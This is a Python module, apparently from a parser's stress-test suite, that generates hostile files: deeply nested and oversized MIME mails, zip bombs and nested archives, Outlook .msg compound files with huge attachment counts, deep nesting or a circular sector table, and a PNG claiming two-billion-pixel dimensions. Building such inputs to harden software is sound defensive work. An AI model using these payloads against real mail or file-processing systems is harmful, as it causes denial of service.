"""Mails, archives and scans made to cost much when they are taken apart."""

import struct
import zlib

from attacks import Make, zipped
from compound_file import Storage, compound_file

HEAD = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
ATTACHED = b"--x\r\nContent-Disposition: attachment; filename=a.xlsx\r\n\r\na\r\n"


def nested_mail(size: float) -> bytes:
    levels = int(20_000 * size)
    heads = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(levels)
    )
    return b"MIME-Version: 1.0\r\n" + heads + b"Content-Disposition: attachment; filename=a.xlsx\r\n\r\nx\r\n"


def one_head(piece: bytes, most: int) -> Make:
    """A mail whose attachment has a name in a million pieces."""
    return lambda size: (
        HEAD
        + b"--x\r\nContent-Disposition: attachment"
        + b"".join(piece.replace(b"#", b"%d" % n) for n in range(int(most * size)))
        + b"\r\n\r\na\r\n--x--\r\n"
    )


def archives_in_archives(size: float) -> bytes:
    inner = zipped({"a.xlsx": b"\0" * 1_000_000})
    return zipped({f"{n}.zip": inner for n in range(int(450 * size) + 1)})


def outlook_mail(size: float) -> bytes:
    """Attachments without end, each with a name."""
    return compound_file(
        {
            f"__attach_version1.0_#{n:08X}": {
                "__substg1.0_3707001F": f"{n}.xlsx".encode("utf-16-le"),
                "__substg1.0_37010102": b"x",
            }
            for n in range(int(3_000 * size) + 1)
        }
    )


def outlook_depths(size: float) -> bytes:
    mail: Storage = {"__substg1.0_0037001F": b"x"}
    for _ in range(int(300 * size) + 1):
        mail = {"__attach_version1.0_#00000000": {"__substg1.0_3701000D": mail}}
    return compound_file(mail)


def outlook_circle(_: float) -> bytes:
    """A container whose table of sectors leads in a circle."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6)
    head += b"\0" * 6 + struct.pack("<9I", 0, 1, 1, 0, 4096, 1, 1, 0xFFFFFFFE, 0) + struct.pack("<I", 0)
    return head.ljust(512, b"\xff") + struct.pack("<128I", 1, 0, *[1] * 126) + bytes(512 * 3)


def picture(size: float) -> bytes:
    """A scan that says it is two thousand million points wide and high."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0))
    points = chunk(b"IDAT", zlib.compress(b"\0" * int(200_000_000 * size), 1))
    return b"\x89PNG\r\n\x1a\n" + head + points + chunk(b"IEND", b"")


MAILS: dict[str, tuple[str, Make]] = {
    "邮件，三十万个附件": (".eml", lambda size: HEAD + ATTACHED * int(300_000 * size) + b"--x--\r\n"),
    "邮件，套两万层": (".eml", nested_mail),
    "邮件，附件名一百万段": (".eml", one_head(b"; filename*#*=a", 1_000_000)),
    "邮件，附件名一百万个编码词": (".eml", one_head(b" =?utf-8?q?a?=", 1_000_000)),
    "压缩包，六万个文件": (
        ".zip",
        lambda size: zipped({f"{n}.xlsx": b"" for n in range(int(60_000 * size))}),
    ),
    "压缩包，解压炸弹": (
        ".zip",
        lambda size: zipped({f"{n}.xlsx": b"\0" * 10_000_000 for n in range(int(200 * size))}),
    ),
    "压缩包里四百个压缩包": (".zip", archives_in_archives),
    "Outlook 邮件，三千个附件": (".msg", outlook_mail),
    "Outlook 邮件，套三百层": (".msg", outlook_depths),
    "Outlook 邮件，扇区绕圈": (".msg", outlook_circle),
    "扫描件，二十亿点见方": (".png", picture),
}
